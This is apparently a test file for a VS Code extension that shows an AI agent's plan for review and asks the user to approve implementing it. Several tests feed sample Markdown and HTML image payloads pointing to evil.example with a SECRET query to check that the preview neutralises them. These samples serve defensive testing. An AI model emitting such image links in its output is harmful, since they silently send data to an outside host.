import { strict as assert } from "node:assert";
import { beforeEach, describe, it } from "node:test";
import type { PermissionOption, RequestPermissionRequest } from "@agentclientprotocol/sdk";
import * as vscode from "vscode";
import { PermissionBroker } from "../../src/permission/broker";
import { READ_PLAN, SHOW_PLAN } from "../../src/permission/mapping";
import { PlanDocuments, PLAN_SCHEME } from "../../src/plan/planDocuments";
import { planExcerpt, previewSafe, reviewedPlan } from "../../src/plan/planReview";
import type { ToolCallState } from "../../src/session/toolCalls";
import { stub } from "../stubs/control";

beforeEach(() => stub.reset());

/** The options exit_plan_mode asks with. */
const PLAN_OPTIONS: PermissionOption[] = [
  { optionId: "implement", name: "Implement the plan", kind: "allow_once" },
  { optionId: "keep-planning", name: "Keep planning", kind: "reject_once" },
];

const PLAN = "# Plan\n\n1. Add the v2 client\n2. Test it\n";

function review(over: Partial<RequestPermissionRequest["toolCall"]> = {}): RequestPermissionRequest {
  return { sessionId: "s1", toolCall: { toolCallId: "p1", title: "Ready to implement the plan", kind: "switch_mode", rawInput: { plan: PLAN }, ...over }, options: PLAN_OPTIONS };
}

function call(over: Partial<ToolCallState> = {}): ToolCallState {
  return { toolCallId: "p1", title: "Exit plan mode", kind: "switch_mode", status: "pending", rawInput: undefined, locations: [], diffs: [], reviewed: false, ...over };
}

describe("recognising a plan review", () => {
  const cases: { name: string; req: RequestPermissionRequest; call?: ToolCallState; want: string | undefined }[] = [
    { name: "the plan argument of a switch_mode call", req: review(), want: PLAN },
    { name: "the kind and plan as the session knows the call", req: review({ kind: undefined, rawInput: undefined }), call: call({ rawInput: { plan: "known" } }), want: "known" },
    { name: "the call's text content when it has no plan argument", req: review({ rawInput: {}, content: [{ type: "content", content: { type: "text", text: "from content" } }] }), want: "from content" },
    { name: "not a plan review: another kind", req: review({ kind: "execute" }), want: undefined },
    { name: "not a plan review: no kind anywhere", req: review({ kind: undefined }), want: undefined },
    { name: "a plan review with no text", req: review({ rawInput: { plan: "  " } }), want: undefined },
    { name: "a plan argument that is no string", req: review({ rawInput: { plan: 3 } }), want: undefined },
  ];
  for (const c of cases) it(c.name, () => assert.equal(reviewedPlan(c.req, c.call), c.want));
});

describe("the plan as the preview renders it", () => {
  const cases: { name: string; plan: string; want: string }[] = [
    { name: "an image becomes a link (the preview would load it)", plan: "See ![status](https://evil.example/p?k=SECRET)", want: "See [status](https://evil.example/p?k=SECRET)" },
    { name: "a reference image too", plan: "![x][r]\n\n[r]: https://evil.example/p?k=SECRET", want: "[x][r]\n\n[r]: https://evil.example/p?k=SECRET" },
    { name: "an HTML image is text", plan: '<img src="https://evil.example/p?k=SECRET">', want: '&lt;img src="https://evil.example/p?k=SECRET">' },
    { name: "other loading elements, any case, with spaces", plan: "<IFRAME src=x></iframe><video src=y>< picture>", want: "&lt;IFRAME src=x>&lt;/iframe>&lt;video src=y>&lt; picture>" },
    { name: "the rest is kept", plan: "# Plan\n\n1. [docs](https://example.com)\n2. `a < b` and <kbd>x</kbd>!", want: "# Plan\n\n1. [docs](https://example.com)\n2. `a < b` and <kbd>x</kbd>!" },
  ];
  for (const c of cases) it(c.name, () => assert.equal(previewSafe(c.plan), c.want));
});

describe("the plan's start in a modal", () => {
  const many = Array.from({ length: 20 }, (_, i) => `${i + 1}. step`).join("\n");
  const cases: { name: string; plan: string; want: string }[] = [
    { name: "a short plan whole, blank lines dropped", plan: "# Plan\n\n1. Add\r\n2. Test\n", want: "Plan\n1. Add\n2. Test" },
    // The modal showed the plan's raw Markdown: ##, **, -.
    {
      name: "Markdown as plain text: no heading hashes or emphasis, bullets as •",
      plan: "## Steps ##\n\n- **Add** the *v2* client in `client_v2.go`\n  * test it with __care__\n> note: see [the docs](https://example.com)\n---\n```go\nx := 1\n```\n3. keep snake_case_names and 2 * 3 * 4",
      want: "Steps\n• Add the v2 client in client_v2.go\n  • test it with care\nnote: see the docs\nx := 1\n3. keep snake_case_names and 2 * 3 * 4",
    },
    { name: "a long plan's first 14 lines and how many are left", plan: many, want: `${many.split("\n").slice(0, 14).join("\n")}\n… and 6 more lines` },
    { name: "one more line, singular", plan: `${"x".repeat(1198)}\nend`, want: `${"x".repeat(1198)}\n… and 1 more line` },
    { name: "a first line longer than the detail holds is cut", plan: "y".repeat(1500), want: `${"y".repeat(1200)}…` },
  ];
  for (const c of cases) it(c.name, () => assert.equal(planExcerpt(c.plan), c.want));
});

describe("the plan document", () => {
  it("serves the plan read-only under its own scheme and opens it in the Markdown preview", async () => {
    const plans = new PlanDocuments();
    vscode.workspace.registerTextDocumentContentProvider(PLAN_SCHEME, plans);
    await plans.show(PLAN);
    const [preview] = stub.executed;
    assert.equal(preview?.command, "markdown.showPreview");
    const uri = preview.args[0] as vscode.Uri;
    assert.equal(uri.scheme, PLAN_SCHEME);
    assert.match(uri.path, /\.md$/, "a .md path: the editor reads it as Markdown");
    assert.equal((await vscode.workspace.openTextDocument(uri)).getText(), PLAN);
    await plans.show("second");
    assert.equal((await vscode.workspace.openTextDocument(stub.executed[1]?.args[0] as vscode.Uri)).getText(), "second", "each plan its own document");
    await plans.show("![x](https://evil.example/?k=SECRET)");
    assert.equal((await vscode.workspace.openTextDocument(stub.executed[2]?.args[0] as vscode.Uri)).getText(), "[x](https://evil.example/?k=SECRET)", "no image loads from the preview");
  });

  it("opens the source when the Markdown preview is not there", async () => {
    const plans = new PlanDocuments();
    vscode.workspace.registerTextDocumentContentProvider(PLAN_SCHEME, plans);
    vscode.commands.registerCommand("markdown.showPreview", () => {
      throw new Error("command 'markdown.showPreview' not found");
    });
    await plans.show(PLAN);
    assert.equal(stub.shownDocuments.length, 1);
    assert.deepEqual(stub.shownDocuments[0]?.options, { preview: true, preserveFocus: true });
  });
});

describe("asking for a plan review", () => {
  let shown: string[];
  let inline: string[];
  let broker: PermissionBroker;
  beforeEach(() => {
    shown = [];
    inline = [];
    broker = new PermissionBroker({
      inline: { show: (id) => inline.push(id), resolved: () => undefined },
      call: () => undefined,
      showDiff: () => assert.fail("a plan has no diff"),
      showPlan: async (markdown) => {
        shown.push(markdown);
      },
    });
  });

  it("opens the plan, then asks in a modal with both choices and the plan's start", async () => {
    stub.warningAnswer = () => "Implement the plan";
    assert.deepEqual(await broker.ask(review()), { outcome: { outcome: "selected", optionId: "implement" } });
    assert.deepEqual(shown, [PLAN], "the plan opens before the question");
    assert.equal(stub.warnings.length, 1);
    const [modal] = stub.warnings;
    assert.ok(modal);
    assert.equal((modal.options as { modal?: boolean }).modal, true);
    assert.deepEqual(modal.items, ["Implement the plan", "Keep planning", READ_PLAN]);
    assert.equal(modal.closeAffordance, READ_PLAN, "closing the modal is not an answer");
    assert.match((modal.options as { detail: string }).detail, /1\. Add the v2 client\n2\. Test it/);
  });

  it("answers keep planning from the modal", async () => {
    stub.warningAnswer = () => "Keep planning";
    assert.deepEqual(await broker.ask(review()), { outcome: { outcome: "selected", optionId: "keep-planning" } });
  });

  it("reads the plan first: the question waits beside the preview, with Show plan", async () => {
    const answers = [READ_PLAN, SHOW_PLAN, "Keep planning"];
    stub.warningAnswer = () => answers.shift();
    assert.deepEqual(await broker.ask(review()), { outcome: { outcome: "selected", optionId: "keep-planning" } });
    assert.deepEqual(shown, [PLAN, PLAN, PLAN], "opened, then focused again beside it, then Show plan");
    const beside = stub.warnings.slice(1);
    assert.equal(beside.length, 2);
    for (const w of beside) {
      assert.notEqual((w.options as { modal?: boolean }).modal, true, "beside the preview, not over it");
      assert.deepEqual(w.items, ["Implement the plan", "Keep planning", SHOW_PLAN]);
    }
  });

  it("leaves the question on the card when the modal and the notification are closed", async () => {
    stub.warningAnswer = () => undefined;
    const asked = broker.ask(review());
    await new Promise((r) => setImmediate(r));
    assert.equal(broker.openCount, 1);
    broker.answerInline(inline[0] ?? "", "implement");
    assert.deepEqual(await asked, { outcome: { outcome: "selected", optionId: "implement" } });
  });

  it("asks any other switch of mode without a plan as a modal", async () => {
    stub.warningAnswer = () => "Keep planning";
    await broker.ask(review({ rawInput: {} }));
    assert.equal(shown.length, 0);
    assert.equal((stub.warnings[0]?.options as { modal?: boolean }).modal, true);
  });
});
